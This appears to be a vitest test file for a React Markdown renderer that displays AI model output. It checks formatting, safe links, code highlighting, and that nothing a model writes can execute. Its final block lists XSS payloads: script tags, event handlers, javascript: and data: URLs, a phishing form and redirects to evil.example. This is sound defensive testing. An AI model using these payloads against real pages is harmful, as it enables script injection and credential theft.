import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, test } from 'vitest';

import Markdown from './Markdown';

function show(text: string, growing = false): HTMLElement {
  return render(<Markdown text={text} growing={growing} />).container;
}

describe('what a model writes', () => {
  test('is shown as what it means', () => {
    show('# Birds\n\nAn **ibis** and `code`.\n\n1. one\n2. two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done');
    expect(screen.getByRole('heading', { level: 1, name: 'Birds' })).toBeVisible();
    expect(screen.getByText('ibis').tagName).toBe('STRONG');
    expect(screen.getByText('code').tagName).toBe('CODE');
    expect(screen.getAllByRole('listitem').map(({ textContent }) => textContent)).toEqual(['one', 'two', ' done']);
    expect(within(screen.getByRole('region', { name: 'Table' })).getAllByRole('cell')).toHaveLength(2);
    expect(screen.getByRole('checkbox', { name: 'Done' })).toBeChecked();
  });

  test('opens links elsewhere, where they learn nothing of this page', () => {
    show('See [it](https://x.example/a?b=c).');
    expect(screen.getByRole('link', { name: 'it' })).toHaveAttribute('href', 'https://x.example/a?b=c');
    expect(screen.getByRole('link', { name: 'it' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(screen.getByRole('link', { name: 'it' })).toHaveAttribute('target', '_blank');
  });

  test('loads no picture: it is a link that the person may follow', () => {
    const page = show('![A map](https://x.example/map.png) ![](https://x.example/b.png)');
    expect(page.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'Picture: A map' })).toHaveAttribute('href', 'https://x.example/map.png');
    expect(screen.getByRole('link', { name: 'Picture' })).toBeVisible();
  });

  test('keeps HTML as the text that it is', () => {
    const page = show('Use <div class="a"> here.\n\n<details>\n<summary>More</summary>\n</details>\n\n- <b>bold</b>');
    expect(page).toHaveTextContent('Use <div class="a"> here.');
    expect(page).toHaveTextContent('<details> <summary>More</summary> </details>');
    expect(screen.getByRole('listitem')).toHaveTextContent('<b>bold</b>');
    expect(page.querySelector('details, summary, b')).toBeNull();
  });

  test('may begin a new line in a cell', () => {
    show('| a |\n| - |\n| one<br>two<br/>three |');
    expect(screen.getByRole('cell').innerHTML).toBe('one<br>two<br>three');
  });

  test('has footnotes that lead to their own answer, in the same page', () => {
    const page = show('One[^1]\n\n[^1]: The first.');
    const other = show('Two[^1]\n\n[^1]: The second.');
    for (const [answer, words] of [
      [page, 'The first.'],
      [other, 'The second.'],
    ] as const) {
      const [link] = within(answer).getAllByRole('link');
      expect(link).not.toHaveAttribute('target');
      expect(document.getElementById(link!.getAttribute('href')!.slice(1))).toHaveTextContent(words);
    }
  });
});

describe('code', () => {
  test('is coloured once the highlighter is there, and names its language', async () => {
    const page = show('```rust\nfn main() {}\n```');
    expect(page).toHaveTextContent('rust');
    expect(page).toHaveTextContent('fn main() {}');
    expect(await screen.findByText('fn', { selector: '.hljs-keyword' })).toBeVisible();
  });

  test('without a language stays as it is', () => {
    const page = show('```\nfn main() {}\n```');
    expect(page.querySelector('.code-block')).toHaveTextContent(/^text/);
    expect(page.querySelector('[class^=hljs-]')).toBeNull();
  });

  test('is copied without its colours and its last line break', async () => {
    const user = userEvent.setup();
    show('```js\nconst a = 1;\n\nconst b = "<b>";\n```');
    await screen.findAllByText('const', { selector: '.hljs-keyword' });
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    await expect(navigator.clipboard.readText()).resolves.toBe('const a = 1;\n\nconst b = "<b>";');
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeVisible();
  });

  test('that is long is not coloured before it is whole', async () => {
    const code = `\`\`\`js\n${'const a = 1;\n'.repeat(600)}`;
    const { container, rerender } = render(<Markdown text={code} growing />);
    render(<Markdown text={'```js\nlet first;\n```'} growing={false} />);
    await screen.findByText('let', { selector: '.hljs-keyword' });
    expect(within(container).queryAllByText('const', { selector: '.hljs-keyword' })).toEqual([]);
    rerender(<Markdown text={`${code}\`\`\``} growing={false} />);
    expect(within(container).getAllByText('const', { selector: '.hljs-keyword' })).toHaveLength(600);
  });
});

describe('nothing that a model writes can act', () => {
  const CORPUS = [
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<style>body { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<div style="position:fixed;inset:0;background:url(https://evil.example)">over</div>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<p id="root" name="cookie">clobbered</p>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x0A;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](blob:https://recollect.example/1)',
    '[x](file:///etc/passwd)',
    '[x](irc://evil.example/join)',
    '[x](xmpp:somebody@evil.example)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x](https://evil.example/pixel.png "title" onerror=alert(1))',
    '[x]\n\n[x]: javascript:alert(1)',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |',
    '```html"><script>alert(1)</script>\nx\n```',
    '```"onmouseover=alert(1)\nx\n```',
    '`<script>alert(1)</script>`',
    '- [ ] <img src=x onerror=alert(1)>',
    '# <svg/onload=alert(1)>',
    '> <script>alert(1)</script>',
  ];

  const ALLOWED = new Set(
    'DIV P BR HR H1 H2 H3 UL OL LI A CODE PRE SPAN STRONG EM DEL BLOCKQUOTE TABLE THEAD TBODY TR TH TD INPUT SUP SECTION'.split(
      ' ',
    ),
  );
  /** The button that copies code is ours. */
  const OURS = 'button, button *';

  test.each([...CORPUS, CORPUS.join('\n\n')])('%s', async (text) => {
    for (const growing of [true, false]) {
      const page = show(`${text}\n\n\`\`\`js\nlet last;\n\`\`\``, growing);
      await within(page).findByText('let', { selector: '.hljs-keyword' });
      for (const element of page.querySelectorAll(`*:not(${OURS})`)) {
        expect(ALLOWED, element.outerHTML).toContain(element.tagName);
        for (const { name, value } of element.attributes) {
          expect(name, element.outerHTML).not.toMatch(/^on|^style$|^srcdoc$|^src$|^action$|^formaction$|^name$/i);
          if (name === 'href') {
            expect(value, element.outerHTML).toMatch(/^(https?:|mailto:|#|$)/);
          }
        }
        if (element.tagName === 'INPUT') {
          expect(element).toHaveAttribute('type', 'checkbox');
          expect(element).toBeDisabled();
        }
      }
      expect(page.querySelector('#root')).toBeNull();
    }
  });
});
